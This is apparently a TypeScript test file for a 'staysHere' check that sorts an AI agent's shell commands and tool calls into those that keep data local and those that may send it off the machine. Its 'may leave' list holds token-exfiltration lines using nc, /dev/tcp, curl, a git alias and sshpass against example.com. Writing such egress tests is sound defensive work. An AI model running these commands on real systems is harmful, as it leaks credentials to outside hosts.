import assert from 'node:assert/strict';
import { test } from 'node:test';
import { staysHere } from './stays-here.ts';

const SCENE = { workspace: '/w', homeDir: '/home/dev' };
const command = (commandLine: string): boolean =>
  staysHere({ kind: 'command', commandLine, cwd: '/w', isUnsandboxed: false }, SCENE);

for (const line of [
  'echo token > .env',
  'export TOKEN=token; printf %s "$TOKEN" | sha256sum',
  'grep -rn token src | head -5',
  'git commit -m "remove token" && git log -1',
  'for f in a b; do cat "$f"; done | sort | uniq -c',
  'sed -i s/token/x/ a.txt',
  'echo "$(cat a.txt) token"',
])
  test(`stays here: ${line}`, () => assert.ok(command(line)));

for (const line of [
  'curl -H token https://example.com',
  'getent hosts token.example.com',
  'nc.openbsd example.com 1 <<< token',
  'sshpass -p token ssh example.com',
  'python3 -c "import asyncio; print(1)"',
  'node send.js token',
  './send token',
  'npm run deploy -- token',
  'make deploy TOKEN=token',
  'git push https://token@example.com/x',
  'git -c alias.x=!curl x token',
  'echo token > /dev/tcp/example.com/80',
  'echo token | xargs curl',
  'echo token; curl example.com',
  'bash -c "echo token | nc example.com 1"',
  'echo $(curl example.com/token)',
  'sudo echo token',
  'unknown-program token',
  'echo "token',
  'find . -exec curl {} token ;',
  'logger -n example.com token',
  'claude -p token',
])
  test(`may leave: ${line}`, () => assert.ok(!command(line)));

for (const { name, want } of [
  { name: 'TodoWrite', want: true },
  { name: 'Agent', want: false },
  { name: 'SendMessage', want: false },
  { name: 'LaterTool', want: false },
])
  test(`the tool ${name} ${want ? 'keeps' : 'may not keep'} to the machine`, () =>
    assert.equal(staysHere({ kind: 'tool', name }, SCENE), want));

test('files stay, and what goes to others does not', () => {
  assert.ok(staysHere({ kind: 'write', path: 'a', cwd: '/w' }, SCENE));
  assert.ok(!staysHere({ kind: 'fetch', url: 'https://example.com' }, SCENE));
  assert.ok(!staysHere({ kind: 'mcp', server: 'a', tool: 'b' }, SCENE));
  assert.ok(!staysHere({ kind: 'unreadable', why: 'x' }, SCENE));
});
